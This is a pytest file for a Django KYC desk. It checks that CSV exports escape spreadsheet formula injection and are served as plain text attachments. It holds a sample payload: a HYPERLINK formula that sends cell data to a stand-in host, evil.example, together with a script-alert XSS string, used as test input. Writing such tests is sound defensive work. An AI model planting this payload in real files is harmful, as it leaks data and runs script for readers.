"""Whatever Ralio or an officer wrote, each export is a file that a spreadsheet and a browser take for text alone."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from kyc.desk.exports import safe
from kyc.models import Session
from tests.factories import DecisionFactory
from tests.kyc.desk.arrivals import arrive, refused

pytestmark = pytest.mark.django_db

STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", "  =", " \t@"]
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"<script>alert(1)</script>")'


@pytest.mark.parametrize("start", STARTS)
def test_no_cell_begins_as_a_formula_does(start: str) -> None:
    assert safe(f"{start}SUM(A1)") == f"'{start}SUM(A1)"


@pytest.mark.parametrize("cell", ["", "a=b", "2026-11-20", "Torn, stained", "'=quoted"])
def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    assert safe(cell) == cell


def answer_of(client: Client, name: str, session: Session) -> Any:
    if name == "queue-bulk":
        return client.post(reverse(name), {"act": "export", "s": [str(session.pk)]})
    return client.get(reverse(name))


@pytest.mark.parametrize("name", ["history-export", "queue-portal-export", "queue-bulk"])
def test_each_export_is_a_file_of_text(supervisor_client: Client, supervisor: Any, name: str) -> None:
    state = "REVIEW" if name != "history-export" else "REJECTED"
    session = arrive(state, checks=[refused(FORMULA, FORMULA, category=FORMULA)])
    if name == "queue-portal-export":
        decision = DecisionFactory(session=session, outcome="reject", codes=[FORMULA], maker=supervisor)
        Session.objects.filter(pk=session.pk).update(state="REJECTED", due_at=None, decided_by=decision.maker)
    answer = answer_of(supervisor_client, name, session)
    text = b"".join(answer).decode().removeprefix("\ufeff")
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]

    assert any(cell.startswith(f"'{FORMULA}") for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Disposition"].startswith("attachment; ")
